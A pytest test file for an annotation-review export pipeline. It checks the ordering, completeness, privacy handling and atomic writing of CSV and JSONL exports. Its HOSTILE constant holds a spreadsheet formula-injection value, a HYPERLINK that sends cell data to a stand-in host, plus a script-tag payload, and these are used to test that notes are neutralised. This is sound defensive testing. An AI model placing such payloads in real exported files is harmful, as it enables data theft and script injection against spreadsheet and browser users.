"""The tables of what people said: whole, in a fixed order, harmless in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from annotation.answers import standing
from curate.errors import UnknownNameError, UsageError
from pipelines.review_export import (
    ACCEPTED_COLUMNS,
    accepted_rows,
    answer_columns,
    answer_rows,
    table_lines,
    write_lines,
)
from pipelines.review_outcomes import reviewed
from tests.pipelines.reviewing import Rows, made_rows
from tests.running import run_curate

HOSTILE = '=HYPERLINK("http://x/?"&A1)\n<script>alert(1)</script>\r"'


@pytest.fixture
def rows(tmp_path: Path) -> Iterator[Rows]:
    made = made_rows(tmp_path / "w", 8, 6)
    yield made
    made.workspace.close()


def told(rows: Rows, **options: Any) -> list[dict[str, Any]]:
    return list(answer_rows(rows.workspace, **options))


def text(rows: Rows, form: Any = "csv", **options: Any) -> str:
    return "".join(table_lines(answer_columns(**options), told(rows, **options), form))


def test_every_answer_and_every_edit_is_there_in_the_order_of_time(rows: Rows) -> None:
    rows.give([0, 1])
    entry = rows.say(0, 0, "valid", at=50)
    rows.say(1, 1, "unclear", at=40)
    rows.say(0, 0, "wrong-label", entry=entry, event="edited", at=60)
    found = told(rows)
    assert [(row["candidate"], row["decision"], row["stands"]) for row in found] == [
        (rows.keys[1], "unclear", True),
        (rows.keys[0], "valid", False),
        (rows.keys[0], "wrong-label", True),
    ]
    assert found[0]["made"] == "2026-01-02T03:04:45.000000Z"
    assert {row["sha256"] for row in found} == {rows.sha256s[0], rows.sha256s[1]}
    assert {row["wnid"] for row in found} == {rows.wnids[0]}


def test_gold_items_adjudications_and_blind_answers_are_marked(rows: Rows) -> None:
    rows.set_gold(5, "wrong-label")
    rows.give([0])
    rows.give([5], gold=True)
    rows.give([0], [None], "adjudication")
    rows.give([0, 1], [2], "blind")
    rows.give([2], [2], "blind", gold=True)
    rows.say(5, 0, "valid")
    rows.say(0, 1, "valid")
    rows.say(0, 0, "unclear", purpose="adjudication")
    rows.say(1, 2, "valid", purpose="blind", picked="n02123045")
    rows.say(2, 2, "valid", purpose="blind", picked=None)
    assert [(r["purpose"], r["gold"], r["control"], r["decision"]) for r in told(rows)] == [
        ("review", "wrong-label", False, "valid"),
        ("review", None, False, "valid"),
        ("adjudication", None, False, "unclear"),
        ("blind", None, False, None),
        ("blind", None, True, None),
    ]
    assert [r["picked"] for r in told(rows)] == [None, None, None, "n02123045", None]
    assert all(r["stands"] for r in told(rows))


def test_what_an_answer_counts_as_is_told_beside_what_was_chosen(rows: Rows) -> None:
    rows.give([0, 1])
    also = rows.workspace.label_space.wnids[9]
    rows.say(0, 0, "valid", also=[also])
    skipped = rows.say(1, 0, "skipped", event="skipped")
    rows.say(1, 0, "skipped", entry=skipped, event="deleted")
    rows.say(1, 1, "wrong-label", reasons=["too-small", "hidden"], corrected=also)
    found = told(rows)
    assert [row["counts_as"] for row in found] == [
        "several-classes",
        "skipped",
        None,
        "wrong-label",
    ]
    assert [row["stands"] for row in found] == [True, False, False, True]
    cells = list(csv.DictReader(io.StringIO(text(rows))))
    assert cells[3]["reasons"] == "too-small;hidden"
    assert cells[3]["corrected"] == also
    assert cells[0]["also"] == also


def test_what_stands_is_what_the_consensus_counts(rows: Rows) -> None:
    rows.give([0, 1, 2])
    entry = rows.say(0, 0, "valid")
    rows.say(0, 0, "unclear", entry=entry, event="edited")
    later = rows.say(0, 0, "valid")
    rows.say(0, 0, "valid", entry=later, event="deleted")
    rows.say(1, 0, "valid")
    rows.say(1, 0, "skipped", event="skipped")
    rows.say(2, 1, "valid")
    stand = {
        (a.entry, a.decision.value, a.made) for a in standing(reviewed(rows.workspace).answers)
    }
    assert len(stand) == 2
    assert {(r["entry"], r["decision"]) for r in told(rows) if r["stands"]} == {
        (name, decision) for name, decision, _ in stand
    }


def test_of_adjudications_the_newest_one_stands_whoever_gave_it(rows: Rows) -> None:
    rows.give([0], [None], "adjudication")
    rows.say(0, 0, "valid", purpose="adjudication")
    rows.say(0, 1, "unclear", purpose="adjudication")
    assert [row["stands"] for row in told(rows)] == [False, True]


def test_mail_addresses_are_told_only_where_asked_for(rows: Rows) -> None:
    rows.give([0])
    rows.say(0, 0, "valid")
    for form in ("csv", "jsonl"):
        assert "@" not in text(rows, form)
        assert "ann@example.org" in text(rows, form, accounts=True)


def test_the_same_answers_give_the_same_bytes_in_whatever_order_they_were_pulled(
    tmp_path: Path,
) -> None:
    found = []
    for number, order in enumerate(([0, 1, 2, 3], [3, 1, 0, 2])):
        rows = made_rows(tmp_path / str(number), 4)
        rows.give([0, 1, 2, 3])
        for place in order:
            rows.answered = place
            rows.say(place, 0, "valid", entry=f"entry {place}", at=place // 2)
        found.append(text(rows))
        rows.workspace.close()
    assert found[0] == found[1]


@pytest.mark.parametrize("note", [HOSTILE, "@SUM(1)", "\t=1", "-1+1", "a;b,c"])
def test_notes_come_back_as_they_are_and_start_no_formula(rows: Rows, note: str) -> None:
    rows.give([0])
    rows.say(0, 0, "valid", note=note)
    cell = next(csv.DictReader(io.StringIO(text(rows), newline="")))["note"]
    assert not cell.startswith(("=", "@", "\t", "-", "+"))
    assert cell.removeprefix("'") == note
    assert json.loads(text(rows, "jsonl"))["note"] == note


def test_the_accepted_are_listed_with_their_votes(rows: Rows) -> None:
    rows.give([0, 1, 2])
    for number in (0, 1):
        rows.say(number, 0, "valid")
        rows.say(number, 1, "valid")
    rows.say(2, 0, "valid")
    rows.say(2, 1, "unclear")
    rows.say(2, 1, "valid", purpose="adjudication")
    found = list(accepted_rows(rows.workspace))
    assert {row["candidate"] for row in found} == {rows.keys[n] for n in (0, 1, 2)}
    lines = "".join(table_lines(ACCEPTED_COLUMNS, found, "csv"))
    by_key = {row["candidate"]: row for row in csv.DictReader(io.StringIO(lines))}
    assert by_key[rows.keys[0]] == {
        "candidate": rows.keys[0],
        "sha256": rows.sha256s[0],
        "wnid": rows.wnids[0],
        "votes": "valid 2",
        "adjudicated": "false",
    }
    assert by_key[rows.keys[2]]["votes"] == "unclear 1;valid 1"
    assert by_key[rows.keys[2]]["adjudicated"] == "true"


def test_a_run_that_is_unknown_is_told_before_the_first_line(rows: Rows) -> None:
    with pytest.raises(UnknownNameError, match="unknown run 'none'"):
        accepted_rows(rows.workspace, "none")


def test_a_file_appears_whole_or_not_at_all(rows: Rows, tmp_path: Path) -> None:
    def broken() -> Iterator[str]:
        yield "made\n"
        raise RuntimeError

    target = tmp_path / "answers.csv"
    target.write_text("before")
    with pytest.raises(RuntimeError):
        write_lines(broken(), target)
    assert target.read_text() == "before"
    assert write_lines(["a\n", "b\n"], target) == 2
    assert target.read_text() == "a\nb\n"
    for bad in (tmp_path, tmp_path / "none" / "x.csv"):
        with pytest.raises(UsageError):
            write_lines([], bad)


@pytest.mark.slow
def test_the_command_writes_what_is_asked_for(rows: Rows, tmp_path: Path) -> None:
    rows.give([0])
    rows.say(0, 0, "valid", note=HOSTILE.replace("\r", ""))
    rows.say(0, 1, "valid")
    root = rows.workspace.root
    assert run_curate("review", "export", workspace=root).stdout == text(rows)
    out = tmp_path / "a.jsonl"
    done = run_curate(
        "--json", "review", "export", "--format", "jsonl", "--out", out, workspace=root
    )
    assert json.loads(done.stdout) == {"path": str(out), "rows": 2}
    assert out.read_text() == text(rows, "jsonl")
    done = run_curate("--json", "review", "export", "--accepted", workspace=root)
    assert [row["candidate"] for row in json.loads(done.stdout)["accepted"]] == [rows.keys[0]]
    done = run_curate("review", "export", "--accepted", "--accounts", workspace=root, expect=2)
    assert "--accounts" in done.stderr
